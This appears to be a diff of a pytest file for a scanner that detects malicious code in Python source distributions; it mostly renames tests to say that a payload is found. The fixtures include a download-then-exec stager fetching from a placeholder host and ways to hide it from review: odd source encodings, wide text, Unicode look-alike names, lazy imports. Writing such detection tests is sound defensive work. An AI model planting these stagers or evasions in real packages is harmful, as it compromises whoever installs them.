@@ -39,7 +39,7 @@ def encoded(text, encoding):
 
 @pytest.mark.parametrize("cookie", COOKIES)
 @pytest.mark.parametrize("encoding", ENCODINGS)
-def test_an_encoding_that_python_reads(encoding, cookie, make, examine):
+def test_the_payload_is_found_in_every_encoding(encoding, cookie, make, examine):
     line = cookie.replace("{}", encoding)
     # The cookie itself is read as bytes.
     data = line.encode() + b"\n" + encoded(make.code.decode(), encoding)
@@ -49,14 +49,14 @@ def test_an_encoding_that_python_reads(encoding, cookie, make, examine):
 @pytest.mark.parametrize(
     "name", ["utf_7", "UTF-7", "u7", "-utf-7-", "utf__7", "_utf_7_", "unicode-1-1-utf-7", "utf--7"]
 )
-def test_an_encoding_by_another_name(name, make, examine):
+def test_the_payload_is_found_in_an_encoding_by_another_name(name, make, examine):
     data = f"# coding: {name}\n".encode() + encoded(make.code.decode(), "utf-7")
     examine(make.sdist({"demo/x.py": data})).is_found("demo-1.0/demo/x.py", "rest")
 
 
 @pytest.mark.parametrize("encoding", ["utf-7", "cp037", "rot13", "unicode_escape", "punycode", "hz"])
-def test_a_cookie_that_nobody_heeds(encoding, make, examine):
-    """What opens a file as text and executes that knows no cookies."""
+def test_the_payload_is_found_despite_a_cookie_that_is_ignored(encoding, make, examine):
+    """Code that opens a file as text and executes it ignores cookies."""
     data = f"# coding: {encoding}\n".encode() + make.code
     examine(make.sdist({"demo/x.py": data})).is_found("demo-1.0/demo/x.py", "rest")
     setup = b"exec(open('demo/x.txt').read())\n"
@@ -65,18 +65,18 @@ def test_a_cookie_that_nobody_heeds(encoding, make, examine):
 
 @pytest.mark.parametrize("name", ["bin/tool", "demo/x.dat", "demo/x.pyi"])
 @pytest.mark.parametrize("encoding", ["utf-7", "cp037", "unicode_escape"])
-def test_a_cookie_in_a_text_that_python_may_be_given(encoding, name, make, examine):
+def test_the_payload_is_found_in_a_text_with_a_cookie(encoding, name, make, examine):
     data = f"# coding: {encoding}\n".encode() + encoded(make.code.decode(), encoding)
     examine(make.sdist({name: data})).is_found(f"demo-1.0/{name}", "text")
 
 
-def test_rot13(make, examine):
+def test_the_payload_is_found_in_rot13(make, examine):
     data = b"# coding: rot13\n" + codecs.encode(make.code.decode(), "rot13").encode()
     examine(make.sdist({"demo/x.py": data})).is_found("demo-1.0/demo/x.py", "rest")
 
 
 @pytest.mark.parametrize("name", ["klingon", "hex", "base64", "zlib", "mbcs", "undefined", "os.path"])
-def test_an_encoding_that_is_none_is_counted_and_read_as_it_stands(name, make, examine):
+def test_an_unknown_encoding_is_counted_and_ignored(name, make, examine):
     seen = examine(make.sdist({"demo/x.py": f"# coding: {name}\n".encode() + make.code}))
     seen.is_found("demo-1.0/demo/x.py", "rest")
     assert seen.row.values["code_bad_encoding"] == 1
@@ -90,7 +90,7 @@ def test_an_encoding_that_takes_too_long_is_named(make, examine):
 @pytest.mark.parametrize("name", ["demo/x.py", "demo/x.ps1", "bin/tool", "x.txt"])
 @pytest.mark.parametrize("mark", [True, False])
 @pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be"])
-def test_wide_text(encoding, mark, name, make, examine):
+def test_the_payload_is_found_in_wide_text(encoding, mark, name, make, examine):
     data = (("\ufeff" if mark else "") + make.code.decode()).encode(encoding)
     section = {"demo/x.py": "rest", "x.txt": "prose"}.get(name, "text")
     examine(make.sdist({name: data})).is_found(f"demo-1.0/{name}", section)
@@ -101,14 +101,14 @@ def test_wide_text(encoding, mark, name, make, examine):
     [b"#" + b"\0a" * 900 + b"\n", b"#" + b"a\0" * 900 + b"\n", b"\xff\xfe = 1\n", b"\xfe\xff = 1\n", b"# \0\n", b"\0\n", b"#\0\0\0a" * 900 + b"\n"],
 )  # fmt: skip
 @pytest.mark.parametrize("name", ["demo/x.py", "demo/x.sh"])
-def test_what_only_looks_wide(name, before, make, examine):
+def test_the_payload_is_found_in_text_that_only_looks_wide(name, before, make, examine):
     section = "rest" if name.endswith("py") else "text"
     examine(make.sdist({name: before + make.code})).is_found(f"demo-1.0/{name}", section)
 
 
 @pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be", "utf-32-le"])
 @pytest.mark.parametrize("name", ["demo/x.py", "demo/x.sh"])
-def test_wide_text_among_other_text(name, encoding, make, examine):
+def test_the_payload_is_found_in_wide_text_among_other_text(name, encoding, make, examine):
     data = b"# a comment\n" * 500 + make.code.decode().encode(encoding) + b"\n# a comment" * 500
     examine(make.sdist({name: data})).is_found(f"demo-1.0/{name}", "rest" if name.endswith("py") else "text")
 
@@ -157,15 +157,15 @@ SPELLINGS = {
 @pytest.mark.parametrize(
     ("name", "role"), [("setup.py", "install"), ("demo/__init__.py", "import"), ("demo/x.py", "rest")]
 )
-def test_a_spelling(name, role, spelling, make, examine):
+def test_the_payload_is_found_in_every_spelling(name, role, spelling, make, examine):
     data = ("import urllib.request\n" + SPELLINGS[spelling]).encode()
     seen = examine(make.sdist({name: data}))
     shown = {at.indicator for at in seen.row.evidence if at.member == f"demo-1.0/{name}"}
-    assert shown & {"exec_download", "download_then_execute"} or shown >= {"exec_call", "urlopen"}, seen.say()
+    assert shown & {"exec_download", "download_then_execute"} or shown >= {"exec_call", "urlopen"}, seen.describe()
     assert (
         seen.row.values[f"code_{role}_category_network"]
         or seen.row.values[f"code_{role}_finding_download_then_execute"]
-    ), seen.say()
+    ), seen.describe()
 
 
 HIDDEN = "import urllib.request as u\ne = exec\ne(u.urlopen('http://example.invalid/stage').read())\n"
@@ -192,19 +192,19 @@ NEWER = {
 
 @pytest.mark.parametrize("spelling", NEWER)
 @pytest.mark.parametrize("name", ["setup.py", "demo/__init__.py"])
-def test_what_only_newer_interpreters_read(name, spelling, make, examine):
+def test_the_payload_is_found_in_newer_syntax(name, spelling, make, examine):
     seen = examine(make.sdist({name: (NEWER[spelling] + HIDDEN).encode()}))
     seen.is_seen("download_then_execute", f"demo-1.0/{name}")
 
 
 @pytest.mark.parametrize("line", ["lazy import boot\nboot.main()\n", "lazy from boot import main\nmain()\n"])
-def test_a_lazy_import_of_the_payload(line, make, examine):
+def test_the_payload_is_found_behind_a_lazy_import(line, make, examine):
     boot = "def main():\n    " + HIDDEN.replace("\n", "\n    ")
     seen = examine(make.sdist({"setup.py": line.encode(), "boot.py": boot.encode(), "other.py": b""}))
-    assert ("demo-1.0/boot.py", "install") in {(at.member, at.role.value) for at in seen.row.evidence}, seen.say()
+    assert ("demo-1.0/boot.py", "install") in {(at.member, at.role.value) for at in seen.row.evidence}, seen.describe()
 
 
-def test_a_lazy_import_in_the_payload(make, examine):
+def test_the_payload_is_found_with_a_lazy_import(make, examine):
     examine(make.sdist({"setup.py": f"lazy {HIDDEN}".encode()})).is_seen("download_then_execute", "demo-1.0/setup.py")
 
 
@@ -220,6 +220,6 @@ def mathematical(text):
 @pytest.mark.parametrize(
     ("name", "role"), [("setup.py", "install"), ("demo/__init__.py", "import"), ("demo/x.py", "rest")]
 )
-def test_names_in_letters_that_python_reads_as_plain_ones(name, role, write, make, examine):
+def test_the_payload_is_found_in_letters_that_python_normalises(name, role, write, make, examine):
     code = f'import {write("urllib.request")}\n{write("exec")}({write("urllib.request.urlopen")}("http://example.invalid/stage").{write("read")}())\n'
     examine(make.sdist({name: code.encode()})).is_found(f"demo-1.0/{name}", role)
